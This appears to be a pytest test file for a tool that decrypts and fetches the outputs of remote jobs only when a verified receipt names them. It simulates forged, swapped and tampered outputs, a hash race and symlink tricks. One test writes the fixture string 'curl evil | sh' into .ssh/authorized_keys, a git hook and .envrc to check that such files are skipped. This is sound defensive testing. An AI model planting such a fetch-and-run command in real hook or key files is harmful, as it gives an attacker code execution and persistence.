"""Fetching takes what the verified receipt names; everything else that lies in the folder is refused."""

from __future__ import annotations

import hashlib
import os
import stat
from collections.abc import Callable
from dataclasses import replace
from io import BufferedReader
from pathlib import Path
from typing import Any

import pytest

from glasshouse.errors import Code, GlasshouseError, PackageError, UsageError, VerificationError
from glasshouse.evidence.receipt import RECEIPT_TYPE, Receipt
from glasshouse.jobs.owner.rundir import RunFolder
from glasshouse.jobs.results import collect
from glasshouse.jobs.results.collect import fetch, look_inside, require_receipt
from glasshouse.jobs.results.run_logs import Segment, named_segments, segments
from glasshouse.jobs.verify.conclusion import conclude
from glasshouse.wire import dsse
from glasshouse.wire.canonical import encode
from glasshouse.wire.crypto import RecipientKey
from glasshouse.wire.states import Outcome
from simulators.owner_side import OwnersWorld, seal_output


@pytest.fixture
def world() -> OwnersWorld:
    return OwnersWorld()


@pytest.fixture
def folder(world: OwnersWorld, tmp_path: Path) -> RunFolder:
    found = world.settle(tmp_path)
    world.tell(found, world.run())
    return found


def receipt_of(folder: RunFolder, world: OwnersWorld) -> Receipt:
    return require_receipt(conclude(folder, owner_signing=world.owner.public, agent_exit=0))


def printed(folder: RunFolder, world: OwnersWorld, *, sealing: RecipientKey | None = None) -> list[Segment]:
    """What `glasshouse logs` decrypts."""
    named = named_segments(folder, owner_signing=world.owner.public)
    return list(segments(folder, named.events, sealing=sealing or world.owner_hpke))


def test_every_output_comes_back_under_its_own_name(folder: RunFolder, world: OwnersWorld, tmp_path: Path) -> None:
    out = tmp_path / "fetched"
    found = fetch(folder, receipt_of(folder, world), sealing=world.owner_hpke, out=out, force=False)
    assert [(one.name, one.kind, one.path) for one in found] == [
        ("adapter.safetensors", "output", out / "adapter.safetensors"),
        ("checkpoints/step-5.safetensors", "checkpoint", out / "checkpoints" / "step-5.safetensors"),
        ("metrics.json", "output", out / "metrics.json"),
    ]
    for name, (_kind, _of, content) in world.files.items():
        assert (out / name).read_bytes() == content
        assert stat.S_IMODE((out / name).stat().st_mode) == 0o600
    assert stat.S_IMODE((out / "checkpoints").stat().st_mode) == 0o700


def test_names_that_differ_only_in_case_come_back_as_two_files(world: OwnersWorld, tmp_path: Path) -> None:
    world.files["A.txt"], world.files["a.txt"] = ("output", "file", b"of A"), ("output", "file", b"of a")
    folder = world.settle(tmp_path)
    world.tell(folder, world.run())
    receipt, out = receipt_of(folder, world), tmp_path / "fetched"
    for force in (False, True):
        fetch(folder, receipt, sealing=world.owner_hpke, out=out, force=force)
        assert ((out / "A.txt").read_bytes(), (out / "a.txt").read_bytes()) == (b"of A", b"of a")


@pytest.mark.parametrize("force", [False, True])
def test_where_two_names_are_one_file_the_second_is_not_written_over_the_first(
    world: OwnersWorld, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, force: bool
) -> None:
    world.files["A.txt"], world.files["a.txt"] = ("output", "file", b"of A"), ("output", "file", b"of a")
    folder = world.settle(tmp_path)
    world.tell(folder, world.run())
    receipt, out = receipt_of(folder, world), tmp_path / "fetched"
    write = collect.write_private

    def folding(path: Path, content: Any, *, replace: bool = True) -> None:
        write(path, content, replace=replace)
        if path.name == "A.txt":  # as a file system that does not tell upper from lower case
            (out / "a.txt").hardlink_to(path)

    monkeypatch.setattr(collect, "write_private", folding)
    with pytest.raises(UsageError, match=r"a\.txt.*one file.*A\.txt") as caught:
        fetch(folder, receipt, sealing=world.owner_hpke, out=out, force=force)
    assert caught.value.hint
    assert (out / "A.txt").read_bytes() == b"of A"


def test_a_folder_that_was_there_keeps_its_mode(folder: RunFolder, world: OwnersWorld, tmp_path: Path) -> None:
    out = tmp_path / "shared"
    for path in (out, out / "checkpoints"):
        path.mkdir()
        path.chmod(0o775)
    fetch(folder, receipt_of(folder, world), sealing=world.owner_hpke, out=out, force=False)
    assert [stat.S_IMODE(path.stat().st_mode) for path in (out, out / "checkpoints")] == [0o775, 0o775]
    assert stat.S_IMODE((out / "metrics.json").stat().st_mode) == 0o600


def test_a_script_puts_nothing_into_dot_folders_of_its_owner_unasked(world: OwnersWorld, tmp_path: Path) -> None:
    for name in (".ssh/authorized_keys", "model/.git/hooks/post-checkout", ".envrc"):
        world.files[name] = ("output", "file", b"curl evil | sh")
    folder = world.settle(tmp_path)
    world.tell(folder, world.run())
    receipt, out = receipt_of(folder, world), tmp_path / "fetched"
    found = fetch(folder, receipt, sealing=world.owner_hpke, out=out, force=False)
    left_out = {one.name for one in found if one.path is None}
    assert left_out == {".ssh/authorized_keys", "model/.git/hooks/post-checkout", ".envrc"}
    assert not [path for path in out.rglob("*") if path.name.startswith(".")]
    assert (out / "metrics.json").is_file()
    asked = fetch(folder, receipt, sealing=world.owner_hpke, out=tmp_path / "all", force=False, hidden=True)
    assert all(one.path is not None for one in asked)
    assert (tmp_path / "all" / "model" / ".git" / "hooks" / "post-checkout").read_bytes() == b"curl evil | sh"


def test_the_hosts_folder_shows_no_names(folder: RunFolder, world: OwnersWorld) -> None:
    kept = b"".join(path.read_bytes() for path in folder.out.rglob("*") if path.is_file())
    for name in world.files:
        assert name.encode() not in kept
    assert b"canary" not in kept


def forge_another(folder: RunFolder, world: OwnersWorld) -> None:
    """Anyone can encrypt to the owner's public key: an extra output, sealed as it must be."""
    seal_output(
        folder.out / "outputs" / "0003.sealed",
        b"poisoned weights",
        recipient=world.owner_hpke.public,
        run_id=world.id("run"),
        manifest=world.manifest.sha256,
        name="adapter2.safetensors",
        sequence=3,
        kind="output",
    )


def exchange_one(folder: RunFolder, world: OwnersWorld) -> None:
    """The host exchanges an output for one of its own, sealed to the owner under the same name and number."""
    seal_output(
        folder.out / "outputs" / "0000.sealed",
        b"poison!" * 1000,
        recipient=world.owner_hpke.public,
        run_id=world.id("run"),
        manifest=world.manifest.sha256,
        name="adapter.safetensors",
        sequence=0,
        kind="output",
    )


def swap_two(folder: RunFolder, _world: OwnersWorld) -> None:
    first, second = folder.out / "outputs" / "0000.sealed", folder.out / "outputs" / "0001.sealed"
    one, two = first.read_bytes(), second.read_bytes()
    first.write_bytes(two)
    second.write_bytes(one)


def flip_a_bit(folder: RunFolder, _world: OwnersWorld) -> None:
    path = folder.out / "outputs" / "0002.sealed"
    data = bytearray(path.read_bytes())
    data[-1] ^= 1
    path.write_bytes(data)


def remove_one(folder: RunFolder, _world: OwnersWorld) -> None:
    (folder.out / "outputs" / "0001.sealed").unlink()


@pytest.mark.parametrize(
    ("attack", "code"),
    [
        (forge_another, Code.OUTPUT_UNNAMED),
        (exchange_one, Code.OUTPUT_UNNAMED),
        (swap_two, Code.OUTPUT_UNNAMED),
        (flip_a_bit, Code.OUTPUT_UNNAMED),
        (remove_one, Code.OUTPUT_TAMPERED),
    ],
)
def test_what_the_receipt_does_not_name_is_refused_and_nothing_is_written(
    folder: RunFolder,
    world: OwnersWorld,
    tmp_path: Path,
    attack: Callable[[RunFolder, OwnersWorld], None],
    code: Code,
) -> None:
    receipt = receipt_of(folder, world)
    attack(folder, world)
    with pytest.raises(PackageError) as refused:
        fetch(folder, receipt, sealing=world.owner_hpke, out=tmp_path / "fetched", force=False)
    assert refused.value.code is code
    assert not (tmp_path / "fetched").exists()


def test_what_a_killed_runtime_had_begun_is_no_output(folder: RunFolder, world: OwnersWorld) -> None:
    (folder.out / "outputs" / "0003.partial").write_bytes(b"half")
    assert len(look_inside(folder, receipt_of(folder, world), sealing=world.owner_hpke)) == 3


def test_a_wrong_key_opens_nothing(folder: RunFolder, world: OwnersWorld, tmp_path: Path) -> None:
    with pytest.raises(GlasshouseError) as refused:
        fetch(folder, receipt_of(folder, world), sealing=RecipientKey.generate(), out=tmp_path / "fetched", force=False)
    assert refused.value.code is Code.PACKAGE_OWNER
    assert not (tmp_path / "fetched").exists()


def test_files_that_are_there_are_kept_without_force(folder: RunFolder, world: OwnersWorld, tmp_path: Path) -> None:
    out, receipt = tmp_path / "fetched", receipt_of(folder, world)
    out.mkdir()
    (out / "metrics.json").write_text("mine")
    with pytest.raises(UsageError, match="exists already"):
        fetch(folder, receipt, sealing=world.owner_hpke, out=out, force=False)
    assert [path.name for path in out.iterdir()] == ["metrics.json"]
    fetch(folder, receipt, sealing=world.owner_hpke, out=out, force=True)
    assert (out / "metrics.json").read_bytes() == world.files["metrics.json"][2]


def test_a_link_in_the_target_folder_is_not_followed(folder: RunFolder, world: OwnersWorld, tmp_path: Path) -> None:
    out, elsewhere = tmp_path / "fetched", tmp_path / "elsewhere"
    out.mkdir()
    elsewhere.mkdir()
    (out / "checkpoints").symlink_to(elsewhere)
    with pytest.raises(UsageError, match="link"):
        fetch(folder, receipt_of(folder, world), sealing=world.owner_hpke, out=out, force=True)
    assert not list(elsewhere.iterdir())


def test_without_a_receipt_that_holds_nothing_is_fetched(world: OwnersWorld, tmp_path: Path) -> None:
    folder = world.settle(tmp_path)
    for damage in (None, b"{}", OwnersWorld(name="somebody else").run().data):
        if damage is not None:
            folder.receipt.write_bytes(damage)
        with pytest.raises(VerificationError, match="forged"):
            receipt_of(folder, world)


def test_whoever_holds_the_launch_key_alone_names_no_outputs(world: OwnersWorld, tmp_path: Path) -> None:
    """A host that was never attested signs a receipt with the launch key and an evidence key of its own making."""
    folder, made = world.settle(tmp_path), world.made
    honest = world.run(attested=False, evidence_made=False, outcome=Outcome.FAILED, code=Code.INTERNAL)
    statement = dict(honest.receipt.to_json())
    statement["subject"] = [output.to_json() for output in made]
    forged = dsse.sign(RECEIPT_TYPE, encode(statement), [world.evidence_key, world.launch_key])
    folder.receipt.write_bytes(honest.with_parts(receipt=forged))
    with pytest.raises(VerificationError, match="forged"):
        receipt_of(folder, world)


def test_a_file_that_is_exchanged_after_it_was_hashed_is_refused(
    folder: RunFolder, world: OwnersWorld, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The host has the genuine file lie there whenever it is hashed, and its own whenever it is opened."""
    path, receipt = folder.out / "outputs" / "0002.sealed", receipt_of(folder, world)
    genuine, forged = path.read_bytes(), tmp_path / "forged"
    seal_output(
        forged,
        b'{"accuracy": 0.11}',
        recipient=world.owner_hpke.public,
        run_id=world.id("run"),
        manifest=world.manifest.sha256,
        name="metrics.json",
        sequence=2,
        kind="output",
    )
    digest = hashlib.file_digest

    def racing(stream: BufferedReader, name: str) -> object:
        ours = os.path.sameopenfile(stream.fileno(), held.fileno())
        if ours:
            path.write_bytes(genuine)
        found = digest(stream, name)
        if ours:
            path.write_bytes(forged.read_bytes())
        return found

    monkeypatch.setattr(hashlib, "file_digest", racing)
    with path.open("rb") as held, pytest.raises(PackageError) as refused:
        fetch(folder, receipt, sealing=world.owner_hpke, out=tmp_path / "fetched", force=False)
    assert refused.value.code is Code.OUTPUT_UNNAMED
    assert not (tmp_path / "fetched" / "metrics.json").exists()


@pytest.mark.parametrize("what", ["pipe", "endless", "folder"])
def test_what_is_no_file_is_refused_and_not_waited_for(
    folder: RunFolder, world: OwnersWorld, tmp_path: Path, what: str
) -> None:
    receipt = receipt_of(folder, world)
    for path in (folder.out / "outputs" / "0000.sealed", folder.out / "log" / "0000.sealed"):
        path.unlink()
        {"pipe": os.mkfifo, "endless": lambda p: p.symlink_to("/dev/zero"), "folder": Path.mkdir}[what](path)
    with pytest.raises(PackageError, match="not there"):
        fetch(folder, receipt, sealing=world.owner_hpke, out=tmp_path / "fetched", force=False)
    with pytest.raises(PackageError, match="not there"):
        printed(folder, world)


def test_an_interrupted_runs_checkpoints_can_be_fetched(world: OwnersWorld, tmp_path: Path) -> None:
    folder = world.settle(tmp_path)
    world.tell(folder, world.run(outcome=Outcome.INTERRUPTED, code=Code.INTERRUPTED))
    found = fetch(folder, receipt_of(folder, world), sealing=world.owner_hpke, out=tmp_path / "fetched", force=False)
    assert len(found) == 3


def test_a_receipt_that_lies_about_a_plaintext_digest_is_caught(world: OwnersWorld, tmp_path: Path) -> None:
    folder = world.settle(tmp_path)
    world.made = (replace(world.made[0], plain_hmac=bytes(32)), *world.made[1:])
    world.tell(folder, world.run())
    with pytest.raises(PackageError) as caught:
        look_inside(folder, receipt_of(folder, world), sealing=world.owner_hpke)
    assert caught.value.code is Code.OUTPUT_TAMPERED


def test_the_log_is_read_back_by_its_owner_alone(folder: RunFolder, world: OwnersWorld) -> None:
    found = printed(folder, world)
    assert [(one.sequence, one.data) for one in found] == [(0, world.printed)]
    with pytest.raises(PackageError):
        printed(folder, world, sealing=RecipientKey.generate())


def test_a_log_segment_that_the_event_log_does_not_name_is_refused(folder: RunFolder, world: OwnersWorld) -> None:
    path = folder.out / "log" / "0000.sealed"
    seal_output(
        path,
        b"all is well",
        recipient=world.owner_hpke.public,
        run_id=world.id("run"),
        manifest=world.manifest.sha256,
        name="log-0000",
        sequence=0,
        kind="log",
    )
    with pytest.raises(PackageError) as refused:
        printed(folder, world)
    assert refused.value.code is Code.OUTPUT_UNNAMED
    path.unlink()
    with pytest.raises(PackageError, match="not there"):
        printed(folder, world)
